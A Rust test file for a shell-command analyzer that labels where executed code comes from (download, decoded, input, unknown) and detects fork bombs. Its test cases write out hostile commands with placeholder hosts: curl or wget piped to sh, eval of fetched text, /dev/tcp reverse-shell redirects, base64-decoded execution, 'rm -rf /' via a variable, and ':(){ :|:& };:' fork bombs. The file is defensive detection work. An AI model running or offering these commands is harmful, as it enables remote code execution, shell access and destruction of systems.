//! Where the code that commands run comes from.

use sentry_command::{CodeSources, Origin, read, read_text};

/// The commands that run code from somewhere, with the names of the sources.
fn sources(text: &str) -> Vec<String> {
    let reading = read_text(text);
    (reading.commands.iter())
        .filter(|command| !command.code_from.is_empty())
        .map(|command| {
            let names: Vec<&str> = command.code_from.names().collect();
            format!("{} {}", command.program(), names.join("+"))
        })
        .collect()
}

fn check(cases: &[(&str, &[&str])]) {
    let wrong: Vec<String> = (cases.iter())
        .filter(|(text, wanted)| sources(text) != *wanted)
        .map(|(text, wanted)| format!("{text:?}\n  {:?}\n  wanted {wanted:?}", sources(text)))
        .collect();
    assert!(
        wrong.is_empty(),
        "{} differ\n{}",
        wrong.len(),
        wrong.join("\n")
    );
}

#[test]
fn a_download_that_is_run_is_found() {
    check(&[
        ("curl x | sh", &["sh download"]),
        ("curl -sSL x | sudo -E bash -", &["bash download"]),
        ("wget -qO- x | bash -s -- -y", &["bash download"]),
        ("wget -O - x | bash", &["bash download"]),
        ("curl x | tee /tmp/log | sh", &["sh download"]),
        ("curl x |\n  # runs it\n\n  sh", &["sh download"]),
        ("curl x |&\nsh", &["sh download"]),
        (
            "curl x | tr -d '\\r' | sed s/a/b/ | head -n 5 | bash",
            &["bash download"],
        ),
        ("curl x | gunzip | sh", &["sh download+decoded"]),
        ("curl x | base64 -d | sh", &["sh download+decoded"]),
        ("curl x | { bash; }", &["bash download"]),
        ("curl x | (cd /tmp && bash)", &["bash download"]),
        ("curl x | if true; then bash; fi", &["bash download"]),
        ("curl x | $SHELL", &["$SHELL download"]),
        ("curl x | ${SHELL:-sh}", &["sh download"]),
        ("curl x | \"$SHELL\" -s", &["$SHELL download"]),
        ("curl x | docker exec -i c sh", &["sh download"]),
        ("curl x | kubectl exec -i p -- bash", &["bash download"]),
        ("curl x | ssh host bash", &["bash download"]),
        ("curl x | ssh host", &["ssh download"]),
        ("curl x | crontab -", &["crontab download"]),
        ("curl x | at now", &["at download"]),
        ("curl x | parallel", &["parallel download"]),
        ("curl x | xargs -I{} sh -c {}", &["sh download"]),
        ("curl x | xargs -0 bash -c", &["bash download"]),
        ("curl x | . /dev/stdin", &[". download"]),
        ("curl x | bash /dev/stdin", &["bash download"]),
        ("curl x | su - root", &["su download"]),
        ("curl x | busybox sh", &["sh download"]),
        ("curl x | env -i sh", &["sh download"]),
        ("bash -c \"$(curl x)\"", &["bash download"]),
        ("sh -c \"$(wget -qO- x)\" '' --unattended", &["sh download"]),
        (
            "sh -c \"set -e; $(curl x)\"",
            &["sh download", "$() unknown"],
        ),
        ("eval \"$(curl x)\"", &["eval download"]),
        ("eval `curl x`", &["eval download"]),
        ("x=$(curl x); eval \"$x\"", &["eval download"]),
        ("x=$(curl x); echo \"$x\" | sh", &["sh download"]),
        ("export X=$(curl x); bash -c \"$X\"", &["bash download"]),
        ("bash <(curl x)", &["bash download"]),
        ("source <(curl x)", &["source download"]),
        (". <(curl x)", &[". download"]),
        ("sh < <(curl x)", &["sh download"]),
        ("bash <<< \"$(curl x)\"", &["bash download"]),
        ("bash <<EOF\n$(curl x)\nEOF", &["bash download"]),
        (
            "curl x | while read l; do eval \"$l\"; done",
            &["eval download"],
        ),
        ("curl x | python3", &["python3 download"]),
        ("curl x | python3 -", &["python3 download"]),
        ("curl x | perl", &["perl download"]),
        ("curl x | node -", &["node download"]),
        ("python3 -c \"$(curl x)\"", &["python3 download"]),
        ("nc host 1 | sh", &["sh download"]),
        ("sh < /dev/tcp/1.2.3.4/5", &["sh download"]),
        (
            "python3 -c 'print(get(\"https://x\"))' | sh",
            &["sh download"],
        ),
        ("$(curl x)", &["$() download+unknown"]),
        ("{ bash; } < <(curl x)", &["bash download"]),
        (
            "while read l; do eval $l; done < <(curl x)",
            &["eval download"],
        ),
        ("bash --rcfile <(curl x) -i", &["bash download"]),
        ("exec 3<>/dev/tcp/h/1; sh <&3", &["sh download"]),
        (
            "exec 196<>/dev/tcp/h/1; sh <&196 >&196 2>&196",
            &["sh download"],
        ),
        ("exec 5< <(curl x); bash <&5", &["bash download"]),
        ("sh 0</dev/tcp/h/1", &["sh download"]),
        ("curl x > >(sh)", &["sh download"]),
        ("curl x | sh >&2", &["sh download"]),
        ("curl x | sh >&-", &["sh download"]),
        ("curl x | sh <&0", &["sh download"]),
        ("curl x | tee >(sh)", &["sh download"]),
    ]);
}

#[test]
fn a_download_that_is_stored_and_then_run_is_found() {
    check(&[
        ("curl x > /tmp/x; sh /tmp/x", &["sh download"]),
        ("curl x -o /tmp/x && bash /tmp/x", &["bash download"]),
        ("curl -Lo x.sh x; chmod +x x.sh; ./x.sh", &["x.sh download"]),
        ("curl -O https://h/a.sh?b && sh a.sh", &["sh download"]),
        (
            "curl -sLO https://h/a.sh && sudo sh ./a.sh",
            &["sh download"],
        ),
        ("wget https://h/a.sh && bash a.sh", &["bash download"]),
        ("wget -q https://h/a -O /tmp/a; . /tmp/a", &[". download"]),
        (
            "wget -P /tmp https://h/a; source /tmp/a",
            &["source download"],
        ),
        (
            "cd /tmp && curl -O https://h/a && cd / && sh /tmp/a",
            &["sh download"],
        ),
        ("curl x | tee /tmp/a; sh /tmp/a", &["sh download"]),
        ("curl x > a; cat a | sh", &["sh download"]),
        ("curl x > a; sh < a", &["sh download"]),
        ("curl x > a; mv a /tmp/b; /tmp/b --yes", &["b download"]),
        ("curl x > a; cp a b && python3 b", &["python3 download"]),
        ("curl x > a.gz; gunzip a.gz; sh a", &["sh download+decoded"]),
        (
            "curl x > a; base64 -d a > b; sh b",
            &["sh download+decoded"],
        ),
        ("F=$(mktemp); curl -o $F x; sh $F", &["sh download"]),
        ("curl x -o f; crontab f", &["crontab download"]),
        ("curl x > a; echo ls > a; sh a", &[]),
    ]);
}

#[test]
fn what_only_reads_a_download_runs_none() {
    check(&[
        ("curl x | python3 -m json.tool", &[]),
        ("curl x | node summary.js", &[]),
        ("curl x | jq .", &[]),
        ("curl x | jq .\nsh", &[]),
        ("curl x | python3 -c 'import sys'", &[]),
        ("curl x | perl -ne 'print'", &[]),
        ("curl x | awk '{print $1}'", &[]),
        ("curl x | bash -c 'cat'", &[]),
        ("curl x | bash parse.sh", &[]),
        ("curl x | tar xz", &[]),
        ("curl x > a; cat a", &[]),
        ("curl x > a; python3 summary.py a", &[]),
        ("curl -o /tmp/a x | sh", &["sh input"]),
        ("x=$(curl x); echo \"$x\"", &[]),
        ("curl x | xargs rm", &[]),
        ("git commit -m \"$(curl x)\"", &[]),
    ]);
}

#[test]
fn input_decoded_text_and_unknown_text_are_told_apart() {
    check(&[
        ("cat f | sh", &["sh input"]),
        ("sh < f", &["sh input"]),
        ("python3 < f", &["python3 input"]),
        ("bash <(cat f)", &["bash input"]),
        ("sh script.sh", &[]),
        ("python3 train.py", &[]),
        ("bash", &[]),
        ("echo ls | sh", &[]),
        ("echo bHM= | base64 -d | sh", &["sh decoded"]),
        ("base64 -d <<< bHM= | sh", &["sh decoded"]),
        ("base64 -d f | sh", &["sh decoded"]),
        (
            "bash -c \"$(echo bHM= | base64 --decode)\"",
            &["bash decoded"],
        ),
        ("eval $(echo sl | rev)", &["eval decoded"]),
        ("echo 6c73 | xxd -r -p | sh", &["sh decoded"]),
        (
            "openssl enc -d -aes-256-cbc -in f | bash",
            &["bash decoded"],
        ),
        ("echo fy | tr a-z n-za-m | sh", &["sh decoded"]),
        ("printf '\\x6c\\x73' | sh", &["sh decoded"]),
        ("gunzip -c f | sh", &["sh decoded"]),
        ("zcat f | sh", &["sh decoded"]),
        ("gzip -dc f | sh", &["sh decoded"]),
        ("cat f | tr -d '\\r' | sh", &["sh input"]),
        ("cat f | tr A-Z a-z | sh", &["sh input"]),
        ("pwsh -enc bABzAA==", &["pwsh decoded"]),
        ("eval \"$x\"", &["eval unknown"]),
        ("eval \"$(cat f)\"", &["eval unknown"]),
        ("eval \"$(find . | sed s/a/b/)\"", &[]),
        ("eval \"$(find . | xargs cat)\"", &["eval unknown"]),
        ("eval \"$(starship init bash)\"", &[]),
        ("eval $(opam env)", &[]),
        ("yes ls | sh", &[]),
        ("$x -rf /", &["$x unknown"]),
        ("sh -c \"$x\"", &["sh unknown"]),
        ("python3 -c \"$x\"", &["python3 unknown"]),
        ("rm $x", &[]),
    ]);
}

#[test]
fn a_function_that_calls_itself_is_a_fork_bomb() {
    let calls_itself = |text: &str| {
        let reading = read_text(text);
        reading.commands.iter().any(|command| command.calls_itself)
    };
    for text in [
        ":(){ :|:& };:",
        ":() { : | : & }; :",
        "f() { f & f & }; f",
        "bomb() { bomb | bomb & }; bomb",
        "function f { f | f & }; f",
        "f(){ g|g& }; g(){ f|f& }; f",
    ] {
        assert!(calls_itself(text), "{text}");
    }
    for text in [
        "f() { [ $1 = 0 ] && return; f $(($1 - 1)); }; f 3",
        "f() { ls | wc; }; f | f &",
        "f() { f || true && f; }; f",
    ] {
        assert!(!calls_itself(text), "{text}");
    }
}

#[test]
fn commands_of_the_arguments_differ_from_those_of_texts() {
    let origins = |arguments: &[&str]| -> Vec<Origin> {
        let reading = read(arguments);
        reading
            .commands
            .iter()
            .map(|command| command.origin)
            .collect()
    };
    assert_eq!(origins(&["sudo", "rm", "x"]), [Origin::Arguments]);
    assert_eq!(origins(&["sh", "-c", "rm x"]), [Origin::Text]);
    assert_eq!(
        origins(&["ssh", "h", "rm x"]),
        [Origin::Arguments, Origin::Text]
    );
}

#[test]
fn sources_have_names() {
    for name in CodeSources::NAMES {
        let set = CodeSources::named(name).unwrap_or_default();
        assert_eq!(set.names().collect::<Vec<_>>(), [*name]);
    }
    assert_eq!(CodeSources::named("x"), None);
}
